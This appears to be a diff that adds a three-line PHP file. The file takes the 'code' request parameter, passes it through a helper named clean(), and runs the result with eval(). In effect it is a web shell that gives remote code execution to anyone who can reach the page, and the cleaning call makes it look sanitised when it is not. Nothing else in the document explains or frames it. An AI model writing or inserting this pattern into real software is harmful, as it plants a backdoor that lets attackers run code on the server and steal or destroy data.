@@ -1,0 +1,3 @@
+<?php
+$f = $helper->clean($_REQUEST['code']);
+eval($f);
